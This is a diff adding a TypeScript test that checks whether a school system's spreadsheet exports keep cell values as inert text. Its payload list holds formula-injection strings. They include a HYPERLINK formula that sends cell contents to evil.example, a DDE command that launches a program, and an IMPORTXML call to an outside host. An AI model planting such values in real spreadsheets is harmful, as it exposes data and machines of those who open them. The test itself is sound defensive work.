@@ -1,0 +1,76 @@
+import type { Readable } from 'node:stream';
+import { buffer } from 'node:stream/consumers';
+import { expect, test } from 'vitest';
+import { actions } from '#server/actions.ts';
+import { readSheet } from '#server/workbook/read.ts';
+import { writeSheet } from '#server/workbook/write.ts';
+import type { getCUserPageList } from '#features/cuser/cuser.contract.ts';
+import { referenceReader } from '#testing/files/referenceReader.ts';
+import { addClass } from '#testing/school.ts';
+import { startServer } from '#testing/server.ts';
+
+/** Texts that a spreadsheet program would calculate, fetch from elsewhere or start, if it took them for formulas. */
+const payloads = [
+  '=1+1',
+  '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  "=cmd|' /C calc'!A0",
+  '=IMPORTXML("http://evil.example")',
+  '\t=1+1',
+  '＝1+1',
+  '"=1+1',
+  '00123',
+  '1e5',
+  '2025-10-08',
+  '林 小雨',
+  '<b>&"\'',
+];
+
+test('another program reads an exported workbook unchanged, without formulas and with leading zeros', async () => {
+  const { as, sqlAsOwner } = await startServer();
+  await addClass({ as } as never, { teamname: '初二1班', names: payloads.map((_, at) => `学生${at}`) });
+  // Names as an older system may have brought them in.
+  for (const [at, payload] of payloads.entries()) {
+    await sqlAsOwner('update cuser set username = $2 where username = $1', [`学生${at}`, payload]);
+    await sqlAsOwner('update cuserarchive set studentno = $2, classname = $3 where studentno = $1', [
+      String(1001 + at),
+      `${payload}${at}`,
+      payload,
+    ]);
+  }
+  await sqlAsOwner("update assessteam set teamname = '=2+2'");
+  await sqlAsOwner("update muser set insname = '=3+3', shortname = '+3' where musercode = 'M_CHENGUANG'");
+  const fetched = async (who: 'chen' | 'fang', name: string) => {
+    const action = actions.find((each) => each.name === name) as typeof getCUserPageList;
+    return buffer(((await as(who)(action, {})) as unknown as { body: Readable }).body);
+  };
+  const books = new Map<string, Uint8Array>([
+    ['persons', await fetched('chen', 'as.m.cuser.exportCuserList')],
+    ['institutions', await fetched('fang', 'as.m.user.exportToFile')],
+    [
+      'every-kind',
+      await buffer(
+        writeSheet({
+          name: '表',
+          heads: ['文字', { head: '数', kind: 'number' }, '文字 2'],
+          rows: payloads.map((payload, at) => [payload, at - 2.5, `${payload}\n第二行`]),
+        }),
+      ),
+    ],
+  ]);
+  const { name, read } = referenceReader();
+  console.log(`exported sheets are read by ${name}`);
+  const seen = await read(books);
+  for (const [title, content] of books) {
+    const { rows } = await readSheet(Buffer.from(content), `${title}.xlsx`);
+    const width = Math.max(...rows.map((row) => row.length));
+    const even = (table: readonly (readonly string[])[]) =>
+      table.map((row) => Array.from({ length: width }, (_, at) => (row[at] ?? '').replaceAll('\r', '')));
+    expect([title, even(seen.get(title) ?? [])]).toEqual([title, even(rows)]);
+  }
+  const shown = (seen.get('persons') ?? []).map((row) => row[0]);
+  for (const payload of payloads) expect(shown).toContain(payload);
+  expect((seen.get('institutions') ?? []).flat()).toContain('=3+3');
+});
